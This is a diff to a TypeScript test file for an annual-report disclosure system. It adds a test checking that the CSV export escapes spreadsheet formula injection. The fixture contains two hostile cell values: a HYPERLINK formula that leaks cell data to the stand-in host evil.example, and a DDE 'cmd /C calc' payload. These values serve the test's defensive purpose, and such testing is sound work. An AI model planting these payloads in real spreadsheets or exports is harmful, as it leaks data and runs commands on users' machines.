@@ -17,7 +17,14 @@ import { pageWait } from "@/lib/throttle/pageLimits";
 import { servePageGate } from "@/lib/throttle/servePageGate";
 import { clientAddressHeader } from "@/lib/http/clientAddressHeader";
 import { TooManyRequestsError } from "@/lib/throttle/throttle";
-import { publishReport, reportForKeeper, saveReportFigures } from "@/lib/disclosure/annualReports";
+import {
+  publishReport,
+  publishedReport,
+  reportForKeeper,
+  saveReportFigures,
+} from "@/lib/disclosure/annualReports";
+import { publishedReportCsv } from "@/lib/disclosure/publishedReportCsv";
+import { getT } from "@/lib/i18n/server";
 import { saveDisclosureSettings } from "@/lib/settings/queries";
 import { saveCalendarOverrides } from "@/lib/deadlines/saveCalendarOverrides";
 import { NotFoundError } from "@/lib/shared/errors";
@@ -265,6 +272,33 @@ describe("the staff pages for annual reports and disclosure settings", () => {
     );
     const denied = await db.auditLog.count({ where: { entityType: "AnnualReport", outcome: "DENIED" } });
     expect(denied).toBeGreaterThanOrEqual(17);
+  });
+
+  it("export a published report's text as cells no spreadsheet reads as a formula", async () => {
+    const hostile = {
+      part2: {
+        regulations: { made: 0, repealed: 0, inForce: 0 },
+        normativeDocuments: { made: 0, repealed: 0, inForce: 0 },
+        licensing: 0,
+        punishment: 0,
+        enforcement: 0,
+        feesTenThousandYuan: 0,
+      },
+      part4: {
+        review: { upheld: 0, corrected: 0, other: 0, pending: 0, total: 0 },
+        directSuit: { upheld: 0, corrected: 0, other: 0, pending: 0, total: 0 },
+        suitAfterReview: { upheld: 0, corrected: 0, other: 0, pending: 0, total: 0 },
+      },
+      problems: '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+      other: "-2+3;=cmd|' /C calc'!A0",
+    };
+    await saveReportFigures({ db, actor: actors.officer, year: 2032, scope: "RSJ", figures: hostile });
+    await publishReport({ db, actor: actors.supervisor, year: 2032, scope: "RSJ" });
+    const report = await publishedReport({ db, year: 2032, scope: "RSJ" });
+    const csv = publishedReportCsv(report!, await getT("zh-Hans", ["disclosure"]));
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""详情"")"`);
+    expect(csv).toContain(`"'-2+3;=cmd|' /C calc'!A0"`);
+    for (const line of csv.split("\r\n")) expect(line, line).not.toMatch(/^[=+\-@]|,[=+\-@]/);
   });
 
   it("refuse every role but the administrator's the disclosure settings and the calendar (audited, not found)", async () => {
